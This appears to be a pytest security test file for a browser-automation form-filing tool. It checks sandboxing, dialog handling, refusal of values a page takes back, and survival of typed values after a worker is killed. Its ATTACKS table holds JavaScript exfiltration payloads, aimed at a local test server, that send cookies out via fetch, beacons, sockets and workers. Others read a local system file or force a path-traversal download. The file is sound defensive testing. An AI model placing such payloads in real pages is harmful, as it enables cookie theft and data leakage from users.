"""A9: a page that tries to get out reaches nobody but its own host; typed values outlive a killed worker."""

import os
import signal
import time
from dataclasses import replace
from pathlib import Path

import pytest

from bridges.filing import Filing, NotSent
from bridges.filing_desk import FilingDesk
from bridges.journal import open_plain
from bridges.recipe import load
from tests.bridges.pages import served

pytestmark = pytest.mark.browser

RECIPE = """
recipe: 1
department: lab
name: {zh: 试验, en: Lab}
base: http://127.0.0.1:1/
settle_ms: 400
forms:
  试验:
    items: [lab.form]
    steps:
      - open: /form
      - fill: [{label: 姓名, element: person.name}]
      - submit: 提交
    receipt: {number: '编号(\\d+)'}
"""
FORM = "<!doctype html><meta charset=utf-8><label>姓名<input name=n></label><button>提交</button><script>%s</script>"
ATTACKS = {
    "fetch": "fetch('%(out)sfetch?'+document.cookie,{mode:'no-cors'}).catch(()=>0)",
    "image": "new Image().src='%(out)simage'",
    "beacon": "navigator.sendBeacon('%(out)sbeacon','x')",
    "socket": "try{new WebSocket('%(out)s'.replace('http','ws')+'socket')}catch(e){}",
    "events": "new EventSource('%(out)sevents')",
    "frame": "document.body.innerHTML+='<iframe src=\"%(out)sframe\"></iframe>'",
    "popup": "window.open('%(out)spopup')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('%(out)sworker',{mode:'no-cors'})\"])))",
    "preconnect": "document.head.innerHTML+='<link rel=prefetch href=\"%(out)sprefetch\">'",
    "file": "document.body.innerHTML+='<iframe src=\"file:///etc/hostname\"></iframe>'",
    "download": "const a=document.createElement('a');a.href='data:text/plain,x';a.download='../../evil.sh';a.click()",
}


def _desk(room: Path, base: str) -> FilingDesk:
    (room / "recipe.yaml").write_text(RECIPE, encoding="utf-8")
    recipe = replace(load(room / "recipe.yaml"), base=base)
    return FilingDesk(open_plain(room / "j.db"), room / "browsers", lambda _: None, departments={"lab": recipe})


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_no_way_out_is_open(tmp_path: Path) -> None:
    escaped, home = list[str](), Path.home()
    downloads = set(home.glob("Downloads/*evil*"))
    pages: dict[str, str] = {}
    with served({}) as (out, outside), served(pages) as (base, _):
        desk = _desk(tmp_path, base)
        try:
            for n, (name, attack) in enumerate(ATTACKS.items()):
                pages["/form"] = FORM % (attack % {"out": out})
                desk.file(Filing(f"V1-{n}:lab:1", "lab", "lab.form", {"person.name": "演示"}), stop_before_submit=True)
                escaped += [f"{name}: {path}" for path in outside]
                outside.clear()
        finally:
            desk.close()
    assert escaped == []
    assert not list(tmp_path.rglob("evil.sh"))
    assert set(home.glob("Downloads/*evil*")) == downloads


def test_an_unknown_alert_stops_the_run(tmp_path: Path) -> None:
    with served({"/form": FORM % "for(let i=0;i<30;i++)alert('谁也不认识')"}) as (base, _):
        desk = _desk(tmp_path, base)
        try:
            outcome = desk.file(Filing("V1-1:lab:1", "lab", "lab.form", {"person.name": "演示"}))
        finally:
            desk.close()
    assert isinstance(outcome, NotSent)
    assert outcome.code == "unknown_dialog"


@pytest.mark.parametrize(
    "bounce",
    [
        "n.oninput=()=>{n.value=n.value.slice(0,1)}",
        "n.onchange=()=>setTimeout(()=>{n.value='别人'},100)",
        "n.onblur=()=>{n.value=''}",
    ],
)
def test_a_value_the_page_takes_back_is_never_submitted(tmp_path: Path, bounce: str) -> None:
    page = FORM % f"const n=document.querySelector('[name=n]');{bounce}"
    with served({"/form": page}) as (base, _):
        desk = _desk(tmp_path, base)
        try:
            outcome = desk.file(Filing("V1-1:lab:1", "lab", "lab.form", {"person.name": "演示数据"}))
        finally:
            desk.close()
    assert isinstance(outcome, NotSent)
    assert outcome.code == "field_not_held"


def test_what_was_typed_outlives_a_killed_worker(tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    with served({"/form": FORM % ""}) as (base, _):
        desk = _desk(tmp_path, base)
        try:
            desk.file(Filing("V1-1:lab:1", "lab", "lab.form", {"person.name": "演示"}), stop_before_submit=True)
            hand = desk._hands["lab"]
            os.kill(hand.worker_pid or 0, signal.SIGKILL)
            living = hand.browser.living()
            assert living
            with sync_playwright() as playwright:
                began = time.monotonic()
                browser = playwright.chromium.connect_over_cdp(living.endpoint)
                page = next(one for one in browser.contexts[0].pages if one.url.startswith(base))
                assert page.input_value("[name=n]") == "演示"
                assert time.monotonic() - began < 5  # 0.04 s on an idle machine
        finally:
            desk.close()
